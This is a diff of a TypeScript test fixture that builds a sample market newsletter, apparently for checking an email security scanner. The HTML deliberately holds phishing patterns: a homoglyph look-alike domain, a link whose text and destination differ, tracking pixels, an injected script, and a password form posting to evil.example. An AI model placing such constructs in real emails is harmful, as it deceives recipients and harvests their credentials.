@@ -51,7 +51,7 @@ const verified: Verdict = { name: 'verified' };
 const delivery = (address: string, state: Delivery['state'], reason: string | null = null): Delivery => ({ address, field: 'to', state, reason, at: hoursAgo(1) });
 
 const NEWSLETTER = `<table width="100%" bgcolor="#f4efe6"><tr><td align="center" style="padding:24px"><h1 style="color:#663300;font-family:Georgia">Quay market</h1>
-<p style="color:#333">Saturday from nine. <a href="https://quay.example/market?x=1">See the stalls</a>.</p><img src="https://tracker.example/pixel.gif" width=1 height=1>
+<p style="color:#333">Saturday from nine. <a href="https://quay.example/market?x=1&utm_source=letter&mc_eid=77">See the stalls</a>.</p><img src="https://quay.example/stalls.png" alt="The stalls" width="420" height="120"><p style="color:#333">Or book at <a href="https://quаy.example/book">the usual place</a>, paid at <a href="https://pay.elsewhere.example/">quay.example/pay</a>.</p><img src="https://tracker.example/pixel.gif?who=mira" width=1 height=1>
 <script>document.title='broken'</script><form action="https://evil.example"><input name=p type=password></form></td></tr></table>`;
 
 function scene(): Played[] {
